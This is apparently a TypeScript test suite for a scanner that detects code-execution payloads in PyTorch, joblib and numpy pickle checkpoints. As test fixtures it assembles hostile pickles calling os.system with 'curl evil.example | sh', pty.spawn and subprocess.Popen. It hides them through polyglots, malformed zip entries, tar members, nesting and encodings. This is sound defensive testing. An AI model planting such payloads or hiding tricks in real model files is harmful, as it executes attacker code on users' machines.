import assert from 'node:assert/strict';
import { deflateSync } from 'node:zlib';
import { joblibFile, numpyPickle, torchPickle } from '../../../bench/formats/pickleFiles';
import { createSafetensors } from '../../../server/src/checkpoint/createCheckpoint';
import { inspectCode, inspectCodeByRanges } from '../../../server/src/checkpoint/inspectCode';
import { limits } from '../../../server/src/checkpoint/limits';
import { codeSafetyFindings, codeSafetyVerdict } from '../../../server/src/scan/codeSafety';
import { cpythonImports, fixture, fixtureNames } from './fixtureFiles';
import * as asm from './pickleAssembler';
import { CountedSource, SparseSource } from './sampleSource';
import { rawZip } from './zipAssembler';

/** `module.name(arguments)` of each import, with the entry. */
function imports(bytes: Uint8Array): string[] {
  return inspectCode(bytes, 'f').globals.map(
    ({ module, name, called, argumentsText, entry }) =>
      `${module}.${name}${called ? `(${argumentsText ?? ''})` : ''} in ${entry}`,
  );
}

function reasons(bytes: Uint8Array): string[] {
  return inspectCode(bytes, 'f').anomalies.map(({ reason }) => reason);
}

/** One ustar member. */
function tarMember(name: string, data: Uint8Array): Buffer {
  const header = Buffer.alloc(512);
  header.write(name, 0);
  header.write(data.length.toString(8).padStart(11, '0'), 124);
  header.fill(' ', 148, 156);
  header.write(
    `${header
      .reduce((sum, byte) => sum + byte, 0)
      .toString(8)
      .padStart(6, '0')}\0 `,
    148,
  );
  return Buffer.concat([header, data, Buffer.alloc((512 - (data.length % 512)) % 512)]);
}

const systemText = 'os.system("curl evil.example | sh")';
const statePickle = asm.bytesOf(
  asm.proto(2),
  asm.global('collections', 'OrderedDict'),
  asm.emptyTuple,
  asm.reduce,
  asm.stop,
);
const inArchive = (pickle: Uint8Array) =>
  rawZip([
    { name: 'a/data.pkl', data: pickle },
    { name: 'a/version', data: '3\n' },
  ]);

describe('inspectCode', () => {
  it('finds no anomalies in files of PyTorch, whatever their format', () => {
    for (const name of fixtureNames) {
      const { anomalies, inspected, globals } = inspectCode(fixture(name), name);
      assert.deepEqual(anomalies, [], name);
      assert.equal(inspected, true);
      assert.ok(globals.length > 0, name);
    }
  });

  it('names the entry and the byte of a payload in an archive', () => {
    const [found] = inspectCode(inArchive(asm.systemCall), 'f').globals;
    assert.deepEqual(found, {
      ...{ module: 'os', name: 'system', entry: 'a/data.pkl', offset: 2, called: true },
      argumentsText: '"curl evil.example | sh"',
    });
  });

  it('looks into plain pickles of every protocol, with and without a signature', () => {
    assert.deepEqual(imports(asm.systemCall), [`${systemText} in `]);
    assert.deepEqual(imports(Buffer.from("cos\nsystem\n(S'id'\ntR.")), ['os.system("id") in ']);
    assert.deepEqual(imports(Buffer.from("(S'id'\nios\nsystem\n.")), ['os.system("id") in ']);
  });

  it('looks into all five pickles of the legacy format', () => {
    const legacy = Buffer.from(fixture('legacy.pt'));
    const main = legacy.indexOf('ccollections\nOrderedDict\n');
    const payload = asm.bytesOf(asm.callWithText('os', 'system', 'id'), asm.op('POP'));
    assert.ok(
      imports(Buffer.concat([legacy.subarray(0, main), payload, legacy.subarray(main)]))[0].startsWith(
        'os.system("id")',
      ),
    );
  });

  it('looks into what comes instead of the legacy magic number', () => {
    assert.deepEqual(imports(asm.bytesOf(asm.systemCall, fixture('legacy.pt')))[0], `${systemText} in `);
  });

  it('looks into the tar archives that PyTorch still unpickles', () => {
    const tar = Buffer.concat([
      tarMember('storages', asm.bytesOf(asm.proto(2), 'K\x00.')),
      tarMember('pickle', asm.systemCall),
      Buffer.alloc(1024),
    ]);
    assert.deepEqual(imports(tar), [`${systemText} in pickle`]);
    const raw = Buffer.concat([tarMember('storages', asm.bytesOf('raw numbers', asm.systemCall)), Buffer.alloc(1024)]);
    assert.deepEqual(imports(raw), [`${systemText} in storages`]);
  });

  it('looks into every pickle of an archive, whatever its name', () => {
    const zip = rawZip([
      { name: 'a/data.pkl', data: statePickle },
      { name: 'a/constants.pkl', data: asm.bytesOf('(', asm.text('id'), 'ios\nsystem\n.') },
      { name: 'a/config.bin', data: asm.systemCall },
      { name: 'a/code/model.py', data: 'class Model(Module):\n  pass\n' },
    ]);
    assert.deepEqual(imports(zip).slice(1), ['os.system("id") in a/constants.pkl', `${systemText} in a/config.bin`]);
  });

  it('looks into archives and streams inside byte strings, and says where', () => {
    const load = asm.stream(
      asm.global('torch.storage', '_load_from_bytes'),
      asm.binaryBytes(inArchive(asm.systemCall)),
      asm.op('TUPLE1'),
      asm.reduce,
    );
    assert.match(imports(load)[1], /^os\.system\(.*\) in bytes at 34 > a\/data\.pkl$/);
    const nested = asm.stream(asm.text(Buffer.from(asm.systemCall).toString('latin1')));
    assert.match(imports(nested)[0], /^os\.system\(.*\) in bytes at 2$/);
  });

  it('sees every import of CPython in random streams, and breaks off none that CPython loads', () => {
    assert.ok(cpythonImports.length >= 300);
    for (const { stream, imports: names, loads } of cpythonImports) {
      const { globals, anomalies } = inspectCode(Buffer.from(stream, 'base64'), 'f');
      const seen = new Set(globals.map(({ module, name }) => `${module} ${name}`));
      for (const [module, name] of names) assert.ok(seen.has(`${module} ${name}`), `${module}.${name} of ${stream}`);
      if (loads) assert.ok(!anomalies.some(({ reason }) => reason.includes('cannot be followed')), stream);
    }
  });

  it('goes on to streams that follow the first', () => {
    assert.deepEqual(imports(asm.bytesOf(statePickle, asm.systemCall))[1], `${systemText} in `);
    const archive = inArchive(asm.bytesOf(statePickle, asm.systemCall));
    assert.equal(imports(archive)[1], `${systemText} in a/data.pkl`);
    assert.match(reasons(archive)[0], /bytes follow the end of the pickle/);
    const hidden = inArchive(asm.bytesOf(statePickle, 'not a pickle', asm.systemCall));
    assert.match(imports(hidden)[1], /^os\.system.* in a\/data\.pkl > bytes at \d+$/);
  });

  it('reports what came before a stream broke, and skims what follows', () => {
    const broken = asm.bytesOf(
      asm.proto(4),
      asm.callWithText('os', 'system', 'id'),
      asm.op('BINGET', 99),
      asm.stackGlobal('pty', 'spawn'),
      0xff,
    );
    assert.deepEqual(imports(broken), ['os.system("id") in ', 'pty.spawn in ']);
    assert.match(reasons(broken)[0], /cannot be followed from here \(memo key 99 was never set\)/);
    assert.deepEqual(
      imports(inArchive(broken)).map((text) => text.split(' ')[0]),
      ['os.system("id")', 'pty.spawn'],
    );
  });

  it('reports payloads of archives that only PyTorch opens', () => {
    const tricks = [
      rawZip([{ name: 'a/data.pkl', data: asm.systemCall, crc: 1 }]),
      rawZip([{ name: 'a/data.pkl', localName: 'a/data.txt', data: asm.systemCall }]),
      rawZip([{ name: 'a/data.pkl', data: asm.systemCall, localFlags: 1 }]),
      rawZip([
        { name: 'a/data.pkl', data: asm.systemCall, deflate: true },
        { name: 'a/data.pkl', data: statePickle },
      ]),
      rawZip([
        { name: 'a/data.pkl', data: statePickle },
        { name: 'a/DATA.PKL', data: asm.systemCall },
      ]),
    ];
    for (const trick of tricks) assert.ok(imports(trick).some((text) => text.startsWith(systemText)));
    for (const trick of tricks) assert.ok(reasons(trick).length > 0);
  });

  it('takes a file with bytes before the archive for a pickle, as PyTorch does', () => {
    const polyglot = asm.bytesOf(asm.systemCall, inArchive(statePickle));
    assert.equal(imports(polyglot)[0], `${systemText} in `);
    assert.ok(reasons(polyglot).some((reason) => /bytes before the archive/.test(reason)));
  });

  it('finds streams in bytes that belong to no entry', () => {
    const hidden = rawZip([{ name: 'a/data.pkl', data: statePickle }], { suffix: asm.systemCall });
    assert.match(imports(hidden)[1], /^os\.system.* in bytes at \d+$/);
  });

  it('finds streams in an archive that was cut off', () => {
    const whole = inArchive(asm.systemCall);
    const cut = whole.subarray(0, whole.length - 10);
    assert.ok(imports(cut)[0].startsWith(systemText));
    assert.match(reasons(cut)[0], /truncated/);
  });

  it('invents no names where an archive is cut off', () => {
    for (const name of ['state-dict.pt', 'protocol-1.pt', 'protocol-4.pt']) {
      const bytes = fixture(name);
      for (let length = 50; length < bytes.length; length += 97) {
        const inspection = inspectCode(bytes.subarray(0, length), name);
        assert.equal(codeSafetyVerdict(inspection), 'unknown');
        const codes = new Set(codeSafetyFindings(inspection).map(({ code }) => code));
        assert.deepEqual([...codes], ['GN103'], `${name} cut to ${length} bytes`);
      }
    }
  });

  it('finds a text pickle by the whole of its name, and by the end of it where that does harm', () => {
    const call = (module: string, name: string) => asm.bytesOf('c', `${module}\n${name}\n`, "(S'x'\ntR.");
    const told = (bytes: Uint8Array) => {
      const findings = codeSafetyFindings(inspectCode(asm.bytesOf(Buffer.alloc(9, 0xff), bytes), 'f.npy'));
      return findings.map(({ code, subject }) => `${code} ${subject}`);
    };
    const inArray = (bytes: Uint8Array) => told(asm.bytesOf('PK\x03\x04', Buffer.alloc(40), bytes));
    assert.ok(inArray(call('subprocess', 'Popen')).includes('GN101 subprocess.Popen("x")'));
    assert.ok(!inArray(call('subprocess', 'Popen')).some((finding) => finding.includes(' ess.Popen')));
    assert.ok(inArray(call('abccos', 'system')).includes('GN101 os.system("x")'));
  });

  it('has nothing to say about safetensors', () => {
    const bytes = createSafetensors([{ name: 'w', dtype: 'float32', shape: [1], values: [1] }]);
    assert.deepEqual(inspectCode(bytes, 'f'), { globals: [], anomalies: [], mentions: [], inspected: true });
  });

  it('says that it cannot judge what is no known format', () => {
    for (const bytes of [
      Buffer.from('hello, this is text'),
      Buffer.from('\x08\x07\x12\x07pytorch'),
      Buffer.alloc(100, 0xff),
    ]) {
      assert.deepEqual(inspectCode(bytes, 'f'), { globals: [], anomalies: [], mentions: [], inspected: false });
    }
    assert.equal(inspectCode(new Uint8Array(), 'f').inspected, false);
  });

  it('takes no chance signature in weights for an archive', () => {
    const weights = asm.bytesOf(Buffer.alloc(100, 1), 'PK\x05\x06', Buffer.alloc(100, 2));
    const zip = rawZip([
      { name: 'a/data.pkl', data: statePickle },
      { name: 'a/data/0', data: weights },
    ]);
    assert.deepEqual(reasons(zip), []);
    assert.deepEqual(reasons(asm.bytesOf(asm.stream(asm.binaryBytes(weights)))), []);
  });

  it('ends on streams nested without end and on decoys in great number', () => {
    let nested = asm.systemCall;
    for (let depth = 0; depth < limits.nesting + 2; depth++) nested = asm.stream(asm.binaryBytes(nested));
    assert.ok(reasons(nested).some((reason) => /nested deeper/.test(reason)));
    const decoys = asm.bytesOf(statePickle, ...Array<Uint8Array>(limits.embeddedStreams + 10).fill(asm.stream('N')));
    assert.ok(reasons(decoys).some((reason) => /more streams than are followed/.test(reason)));
  });

  it('says so where a stream is longer than is followed', () => {
    const long = asm.bytesOf(Buffer.alloc(2 * limits.pickleOperations, 'N0'), asm.global('os', 'system'), '.');
    assert.match(reasons(long)[0], /more opcodes than are followed/);
    assert.deepEqual(imports(long), ['os.system in ']);
  });
});

describe('inspectCodeByRanges', () => {
  const call = asm.bytesOf(asm.callWithText('os', 'system', 'echo'), asm.op('POP'));
  const payload = asm.bytesOf(asm.proto(4), asm.callWithText('os', 'system', 'echo'), asm.stop);
  /** The payload with much behind it, so that a byte string with it is not read with its opcode. */
  const long = asm.stream(asm.callWithText('os', 'system', 'echo'), asm.binaryBytes(Buffer.alloc(200_000)));
  const legacy = Uint8Array.from(fixture('legacy.pt'));
  const main = Buffer.from(legacy).indexOf('ccollections\nOrderedDict\n');
  const unpickled = (bytes: Uint8Array) =>
    asm.bytesOf(asm.global('torch.storage', '_load_from_bytes'), asm.binaryBytes(bytes), asm.op('TUPLE1'), asm.reduce);
  const padded = asm.op('BINBYTES', asm.uint(100_000, 4), Buffer.alloc(100_000));

  const hidden: readonly (readonly [string, Uint8Array])[] = [
    ['behind a long byte string', asm.stream(padded, call)],
    ['in a long byte string', asm.stream(asm.binaryBytes(long))],
    ['in a byte string of a byte string', asm.stream(asm.binaryBytes(asm.stream(asm.binaryBytes(long))))],
    ['in base64', asm.stream(asm.text(Buffer.from(long).toString('base64')))],
    ['in hexadecimal digits of bytes', asm.stream(asm.binaryBytes(Buffer.from(Buffer.from(long).toString('hex'))))],
    ['in a long text of protocol 2', asm.stream(asm.text(Buffer.from(long).toString('latin1')))],
    ['in a compressed byte string', asm.stream(asm.binaryBytes(deflateSync(long, { level: 0 })))],
    ['in an archive', asm.stream(asm.binaryBytes(rawZip([{ name: 'a/data.pkl', data: long }])))],
    [
      'in a tensor',
      asm.stream(unpickled(asm.bytesOf(legacy.subarray(0, main), call, legacy.subarray(main), Buffer.alloc(9000)))),
    ],
    ['in what is unpickled without looking like it', asm.stream(unpickled(asm.bytesOf('N0', long)))],
    ['behind the end', asm.bytesOf(asm.stream(padded), Buffer.alloc(70_000, 1), payload)],
    ['behind a break', asm.bytesOf(asm.proto(4), padded, 0xff, Buffer.alloc(70_000, 1), payload)],
    ['before a break', asm.bytesOf(asm.proto(4), padded, call, 0xff)],
  ];
  for (const [name, bytes] of hidden) {
    it(`finds a call ${name} where it is found in memory`, () => {
      const inMemory = inspectCode(bytes, 'f');
      assert.ok(inMemory.globals.some((found) => found.module === 'os'));
      assert.deepEqual(inspectCodeByRanges(new CountedSource(bytes), 'f'), inMemory);
    });
  }

  it('finds a call behind 10 GB of numbers and reads little of them', () => {
    const source = new SparseSource([...numpyPickle(10e9).slice(0, -1), asm.bytesOf('s0', call, 'N.')]);
    const { globals, anomalies } = inspectCodeByRanges(source, 'f');
    const found = globals.find(({ module }) => module === 'os');
    assert.ok(found?.called && found.offset > 10e9);
    assert.equal(found.argumentsText, '"echo"');
    assert.deepEqual(anomalies, []);
    assert.ok(source.asked < 1 << 18, String(source.asked));
  });

  it('finds no more than there is in 10 GB of joblib and of PyTorch, and reads little', () => {
    for (const parts of [joblibFile(10e9), torchPickle(10e9)]) {
      const source = new SparseSource(parts);
      const { anomalies, inspected } = inspectCodeByRanges(source, 'f');
      assert.deepEqual([anomalies, inspected], [[], true]);
      assert.ok(source.asked < 1 << 19, String(source.asked));
    }
  });

  it('says what it does not search where 10 GB follow the end of a pickle', () => {
    const source = new SparseSource([asm.stream('N'), 10e9]);
    const reasons = inspectCodeByRanges(source, 'f').anomalies.map(({ reason }) => reason);
    assert.ok(reasons.some((reason) => reason.includes('not searched for pickles: it is too long')));
  });

  it('searches the whole of a file that can be read whole, behind what is searched of larger ones', () => {
    const source = new SparseSource([asm.stream('N'), limits.streamBytes + 1000, payload]);
    const { globals } = inspectCodeByRanges(source, 'f');
    assert.deepEqual(
      globals.map(({ module, offset }) => [module, offset]),
      [['os', limits.streamBytes + 1000 + 2]],
    );
  });
});
